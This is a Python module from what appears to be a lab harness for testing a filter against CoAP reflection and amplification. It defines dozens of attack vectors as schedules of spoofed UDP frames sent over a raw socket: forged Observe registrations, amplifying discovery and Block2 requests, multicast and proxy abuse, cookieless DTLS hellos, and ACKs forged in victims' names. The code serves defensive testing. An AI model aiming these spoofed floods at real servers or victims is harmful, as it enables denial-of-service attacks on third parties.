# SPDX-License-Identifier: BSD-3-Clause
"""The attacks of the lab, and the attacker that runs them.

Each vector is a schedule of forged datagrams (who they pretend to come from,
when, what is in them), plus what the attacker does beforehand from its own,
real address. The same schedule runs with the filter bypassed and enforcing,
each time toward addresses that were never used before.

Numbers of the vectors (AV-..) are those of docs/threat-model.md.
"""

import ipaddress
import socket
import struct
import threading
import time
from collections import namedtuple

import coap
import lab as wiring
import netns
import packets
from peer import Peer

BODY = bytes(ord("a") + i % 26 for i in range(1000))
LISTED_NAMES = 15
DTLS_HANDSHAKE, DTLS_CID = 22, 25

# at: seconds after the vector's start; victim: index into its addresses;
# port: source port; data: CoAP bytes; server: table of addresses by family; to: its port
Shot = namedtuple("Shot", "at victim port data server to", defaults=(coap.PORT,))
Sent = namedtuple("Sent", "time length")


class Vector:
    """One attack: `shots` are forged, `own` is sent as the attacker itself. acked:
    each CON toward a victim is acknowledged in its name, by the Message ID that its
    server used. inside: the victim is the inside server that is sent to."""

    def __init__(self, number, title, shots, start, victims=1, own=(), acked=False, inside=False):
        self.number, self.title, self.start = number, title, start
        self.shots, self.victims, self.own = shots, victims, own
        self.acked, self.inside = acked, inside

    def addresses(self, index, phase, family):
        """Forged addresses: a network of its own per vector and phase, so that
        no vector uses up what a covering prefix may still receive."""
        if family == 4:
            return [f"10.{index}.{phase}.{7 + n}" for n in range(self.victims)]
        return [f"3fff:{phase}{index:02x}::{7 + n:x}" for n in range(self.victims)]


def _train(count, rate, build, port=lambda i: 40000, victim=lambda i: 0,
           server=wiring.SERVER, to=coap.PORT):
    """`count` shots, `rate` per second; the datagram is built from its index."""
    return [Shot(i / rate, victim(i), port(i), build(i), server, to) for i in range(count)]


def _get(path, kind=coap.NON, token=lambda i: b"", extra=lambda i: ()):
    """A builder of GET requests with growing Message IDs."""
    def build(i):
        return coap.message(kind, coap.GET, 0x1000 + i, token(i),
                            coap.path(path) + list(extra(i)))
    return build


def _observe(path, extra=lambda i: ()):
    return _get(path, token=lambda i: bytes([0x60 + i % 64, i // 64]),
                extra=lambda i: [(coap.OPT_OBSERVE, b""), *extra(i)])


def vectors():
    """All vectors, the ones with a long tail first."""
    spread = lambda i: 41000 + i
    return [
        Vector("AV-12", "Observe for a forged client", start=0,
               shots=_train(5, 5, _observe("/time"), port=spread, server=wiring.SERVER_NON)),
        Vector("AV-13", "Observe, many queries", start=1,
               shots=_train(20, 10, _observe("/time", lambda i: [
                   (coap.OPT_URI_QUERY, b"a=%d" % i)]), server=wiring.SERVER_NON)),
        Vector("AV-06", "Retransmission of separate answers", start=3,
               shots=_train(20, 10, _get("/async", coap.CON, lambda i: b"A%c" % (33 + i),
                                         lambda i: [(coap.OPT_URI_QUERY, b"1")]), port=spread)),
        Vector("AV-10", "Signalling code over UDP", start=5,
               shots=_train(20, 10, lambda i: coap.message(coap.CON, coap.CODE_SIGNAL_PING, i),
                            port=spread)),
        Vector("AV-16", "Fan-out of one update", start=7,
               shots=_train(20, 20, _observe("/fan"), port=spread),
               own=[(3.0, "/fan", BODY)]),
        Vector("AV-01", "Large listing", start=10,
               shots=_train(200, 20, _get("/.well-known/core", coap.CON))),
        Vector("AV-03", "Body planted by the attacker", start=14,
               shots=_train(200, 20, _get("/m"))),
        Vector("AV-02", "Request disguised as ACK", start=18,
               shots=_train(100, 20, _get("/m", coap.ACK))),
        Vector("AV-07", "Errors with diagnostics", start=21,
               shots=_train(100, 20, _get("/", coap.CON, extra=lambda i: [(9001 + 2 * i, b"x")]))),
        Vector("AV-08", "CoAP ping", start=24,
               shots=_train(100, 20, lambda i: coap.message(coap.CON, coap.EMPTY, i))),
        Vector("AV-26", "Block2 of 1024 bytes", start=27,
               shots=_train(100, 20, _get("/m2", extra=lambda i: [(coap.OPT_BLOCK2, b"\x06")]))),
        Vector("AV-41", "Carpet: 64 addresses of one network", start=30, victims=64,
               shots=_train(256, 32, _get("/m"), victim=lambda i: i % 64)),
    ]


def _block1(i, num=0, more=True, szx=0, size=16, size1=None):
    """PUT of one block on a resource of its own."""
    opts = coap.path(f"/b{i % 26}") + [(coap.OPT_BLOCK1, coap.uint(num << 4 | (8 if more else 0) | szx))]
    if size1 is not None:
        opts.append((coap.OPT_SIZE1, coap.uint(size1)))
    return coap.message(coap.CON, coap.PUT, 0x2000 + i, b"b", opts, b"x" * size)


def _q_block1(i):
    """Blocks 0 and 2 of an upload by Q-Block1, of four with this Request-Tag; 1 never comes."""
    num = 2 * (i % 2)
    opts = coap.path("/q1") + [(coap.OPT_Q_BLOCK1, coap.uint(num << 4 | 8)), (coap.OPT_SIZE1, coap.uint(64)),
                               (coap.OPT_REQUEST_TAG, b"%c" % (65 + i // 2 % 26))]
    return coap.message(coap.NON, coap.PUT, 0x9000 + i, b"%c" % (65 + i // 2 % 26), opts, b"x" * 16)


def _record(kind, version, body):
    """A DTLS record of epoch 0, or of connection ID 0x0102 (RFC 9146 section 4)."""
    head = bytes([kind]) + version + bytes(8)
    return head + (b"\x01\x02" if kind == DTLS_CID else b"") + struct.pack("!H", len(body)) + body


def _hello(i):
    """A ClientHello of 99 bytes without a cookie."""
    body = b"\xfe\xfd" + struct.pack("!I", i) + bytes(28) + bytes(2) + bytes(74 - 36)
    head = bytes([1]) + len(body).to_bytes(3, "big") + bytes(5) + len(body).to_bytes(3, "big")
    return _record(DTLS_HANDSHAKE, b"\xfe\xff", head + body)


def _edhoc(i):
    """EDHOC message_1 behind C_1 = true (RFC 9528 section 5.2): method 0, suite 0, G_X, C_I."""
    first = b"\xf5\x00\x00\x58\x20" + bytes((i + n) & 255 for n in range(32)) + b"\x37"
    return coap.message(coap.CON, coap.POST, 0x8000 + i, b"e", coap.path("/.well-known/edhoc"), first)


def more_vectors():
    """Those that --all adds: slower, or against servers that libcoap is not."""
    spread = lambda i: 42000 + i
    odd, link = wiring.SERVER_ODD, lambda i: coap.path("/.well-known/core")
    links = b"</s>;rt=t"
    answer = lambda i: coap.message(coap.NON, coap.CODE_CONTENT, 0x3000 + i, b"%03d" % (i % 999), (), BODY)
    return [
        Vector("AV-15", "Acknowledged in the victim's name", start=0, acked=True,
               shots=_train(3, 1, _observe("/time"), port=spread)),
        Vector("AV-14", "Attributes that ask for ten a second", start=1,
               shots=_train(2, 1, _observe("/t", lambda i: [(coap.OPT_URI_QUERY, b"c.pmax=0.1")]),
                            server=odd)),
        Vector("AV-36", "Simple registration", start=2,
               shots=_train(4, 1, lambda i: coap.message(
                   coap.CON, coap.POST, 0x4000 + i, b"r", coap.path("/.well-known/rd")
                   + [(coap.OPT_URI_QUERY, b"ep=v%d" % i), (coap.OPT_URI_QUERY, b"lt=30")]),
                            port=spread, server=odd)),
        Vector("AV-27", "Q-Block2", start=6,
               shots=_train(4, 2, _get("/q", token=lambda i: b"%c" % (65 + i), extra=lambda i: [
                   (coap.OPT_Q_BLOCK2, b"\x0e")]), server=odd)),
        Vector("AV-28", "Q-Block1, a block left out", start=7,
               shots=_train(100, 20, _q_block1, server=odd)),
        Vector("AV-43", "Answers in fragments", start=9,
               shots=_train(20, 10, _get("/whole"), server=odd)),
        Vector("AV-18", "Large notifications", start=11,
               shots=_train(4, 4, _observe("/m2", lambda i: [(coap.OPT_BLOCK2, b"\x06")]), port=spread),
               own=[(3.0, "/m2", BODY)]),
        Vector("AV-19", "Multicast", start=13,
               shots=_train(50, 10, _get("/.well-known/core"), server=wiring.GROUP)),
        Vector("AV-22", "Multicast with No-Response: 0", start=16,
               shots=_train(50, 10, _get("/nope", token=lambda i: b"n",
                                         extra=lambda i: [(coap.OPT_NO_RESPONSE, b"")]),
                            server=wiring.GROUP)),
        Vector("AV-04", "Names planted in the listing, NON", start=20,
               shots=_train(100, 20, _get("/.well-known/core"))),
        Vector("AV-05", "FETCH", start=24,
               shots=_train(100, 20, lambda i: coap.message(
                   coap.NON, coap.FETCH, 0x5000 + i, b"f", link(i)))),
        Vector("AV-09", "Malformed messages", start=28,
               shots=_train(100, 20, lambda i: bytes([0x49, 1, i >> 8, i & 255]) + b"a" * 9)),
        Vector("AV-11", "Extended tokens", start=31,
               shots=_train(50, 20, lambda i: bytes([0x4d, 1, 0x50, i, 27]) + b"t" * 40)),
        Vector("AV-29", "Uploads begun", start=34,
               shots=_train(100, 20, _block1, port=spread)),
        Vector("AV-30", "Blocks out of order", start=37,
               shots=_train(100, 20, lambda i: _block1(i, num=0xFFFFF, more=False, szx=6, size=1))),
        Vector("AV-31", "4 GiB announced", start=40,
               shots=_train(100, 20, lambda i: _block1(i, size1=0xFFFFFFFF))),
        Vector("AV-32", "Blocks in no order", start=43,
               shots=_train(100, 20, _get("/m2", extra=lambda i: [
                   (coap.OPT_BLOCK2, coap.uint((i * 61 % 62) << 4 | 2))]))),
        Vector("AV-35", "Registrations", start=46,
               shots=_train(100, 20, lambda i: coap.message(
                   coap.CON, coap.POST, 0x6000 + i, b"r", coap.path("/rd")
                   + [(coap.OPT_URI_QUERY, b"ep=n%d" % i)], links), server=wiring.SERVER_RD)),
        Vector("AV-37", "Discovery with a filter", start=48,
               shots=_train(100, 20, _get("/.well-known/core", coap.CON, extra=lambda i: [
                   (coap.OPT_URI_QUERY, b"rt=t*")]))),
        Vector("AV-39", "Another query each time", start=52,
               shots=_train(100, 20, _get("/m", extra=lambda i: [(coap.OPT_URI_QUERY, b"x=%d" % i)]))),
        Vector("AV-38", "Forward proxy", start=49,
               shots=_train(20, 5, lambda i: coap.message(
                   coap.NON, coap.GET, 0x7000 + i, b"p", [(coap.OPT_PROXY_URI, b"coap://192.0.2.1/time")]),
                            server=wiring.SERVER_PROXY)),
        Vector("AV-40", "From the ports of other services", start=54,
               shots=_train(100, 20, _get("/m"), port=lambda i: (7, 19, 53, 123, 1900)[i % 5])),
        Vector("AV-42", "Answers at a server of ours", start=58, inside=True,
               shots=_train(100, 20, answer, port=lambda i: coap.PORT, victim=lambda i: i % 8), victims=8),
        Vector("AV-44", "A source of its own for each request", start=62, victims=100,
               shots=_train(100, 20, _get("/m"), victim=lambda i: i)),
        Vector("AV-24", "A connection ID from another address", start=70,
               shots=_train(3, 0.5, lambda i: _record(DTLS_CID, b"\xfe\xfd", bytes(27)), server=odd,
                            to=coap.PORT_DTLS)),
        Vector("AV-45", "DTLS without cookies", start=76,
               shots=_train(100, 20, _hello, server=odd, to=coap.PORT_DTLS, port=spread)),
        Vector("AV-48", "EDHOC message_1", start=82,
               shots=_train(100, 20, _edhoc, server=odd)),
        Vector("AV-47", "Neither CoAP nor meant to be", start=66,
               shots=_train(100, 20, lambda i: bytes([0x45, 0x78, i >> 8, i & 255]) + bytes(range(24)))),
    ]


def plant(lab, family):
    """Everything the attacker prepares, as itself. Returns what succeeded."""
    own = Peer(lab, "attacker", family)
    try:
        done = {"/m": own.put("/m", BODY), "/m2": own.put("/m2", BODY * 4),
                "/fan": own.put("/fan", b"small")}
        names = [f"/L{n:02d}" + "x" * 200 for n in range(LISTED_NAMES)]
        done["listing"] = all([own.put(name, b"z") for name in names])
        return done
    finally:
        own.close()


def hardware(address):
    """Where a frame to an address goes: groups have hardware addresses of their own."""
    packed = ipaddress.ip_address(address).packed
    if packed[0] == 0xFF:
        return "33:33:" + ":".join(f"{b:02x}" for b in packed[12:])
    if len(packed) == 4 and packed[0] >> 4 == 14:
        return "01:00:5e:" + ":".join(f"{b:02x}" for b in (packed[1] & 127, *packed[2:]))
    return wiring.MAC["inside"]


class Guesser(threading.Thread):
    """Acknowledges in the victims' names, by the Message IDs that their server used
    (read off the inside link): the best guess there is."""

    def __init__(self, attacker, capture, addresses, key, until):
        super().__init__(daemon=True)
        self.attacker, self.capture, self.key, self.until = attacker, capture, key, until
        self.addresses, self.done = set(addresses), set()

    def run(self):
        while time.monotonic() < self.until and self.attacker.sock.fileno() >= 0:
            for record in self.capture.records(way="out"):
                packet = record.packet
                if packet.dst in self.addresses and coap.kind_of(packet.data) == coap.CON \
                        and (packet.dport, packet.data[2:4]) not in self.done:
                    self.done.add((packet.dport, packet.data[2:4]))
                    self._acknowledge(packet)
            time.sleep(0.05)

    def _acknowledge(self, packet):
        frame = packets.udp_frame(wiring.MAC["victim"], wiring.MAC["inside"], packet.dst, packet.src,
                                  packet.dport, packet.sport, b"\x60\x00" + packet.data[2:4])
        self.attacker.sent[self.key].append(Sent(time.time(), len(frame) - 14))
        self.attacker.sock.send(frame)


class Attacker:
    """Sends the forged frames of all vectors, each at its time, and notes
    every frame's IP bytes just before it leaves. The hardware address is the
    victim's, as it would be a router's for all that is outside: what the gateway
    sends back goes where the IP address says, and is counted."""

    def __init__(self, lab):
        self.lab = lab
        self.sock = netns.in_namespace(lab.ns("attacker"), self._open)
        self.sent = {}

    @staticmethod
    def _open():
        sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
        sock.bind(("eth0", 0))
        return sock

    def _plan(self, chosen, phase, families):
        """(time, key, frame or own action) in order of time."""
        plan = []
        for index, vector in chosen:
            for family in families:
                key = (vector.number, family)
                self.sent[key] = []
                addresses = vector.addresses(index, phase, family)
                for shot in vector.shots:
                    frame = packets.udp_frame(
                        wiring.MAC["victim"], hardware(shot.server[family]), addresses[shot.victim],
                        shot.server[family], shot.port, shot.to, shot.data)
                    plan.append((vector.start + shot.at, key, frame))
                plan += [(vector.start + at, key, (path, body)) for at, path, body in vector.own]
        return sorted(plan, key=lambda step: step[0])

    def run(self, chosen, phase, families, inside=None, watch=0.0):
        """Run the schedule; returns when the last frame has left. Guessers read
        the inside capture and go on for `watch` seconds."""
        plan, helpers = self._plan(chosen, phase, families), []
        for index, vector in chosen:
            for family in families:
                if vector.acked:
                    Guesser(self, inside, vector.addresses(index, phase, family), (vector.number, family),
                            time.monotonic() + watch).start()
        began = time.monotonic()
        for at, key, step in plan:
            time.sleep(max(0.0, began + at - time.monotonic()))
            if isinstance(step, bytes):
                self.sent[key].append(Sent(time.time(), len(step) - 14))
                self.sock.send(step)
            else:
                helper = threading.Thread(target=self._own, args=(key, *step), daemon=True)
                helper.start()
                helpers.append(helper)
        for helper in helpers:
            helper.join()

    def _own(self, key, path, body):
        """An update from the attacker's own address; its first copy counts as
        attack bytes."""
        own = Peer(self.lab, "attacker", key[1])
        try:
            size = (28 if key[1] == 4 else 48) + len(
                coap.message(coap.CON, coap.PUT, 0, b"peer", coap.path(path), body))
            self.sent[key].append(Sent(time.time(), size))
            own.put(path, body)
        finally:
            own.close()

    def close(self):
        """Give the socket back."""
        self.sock.close()
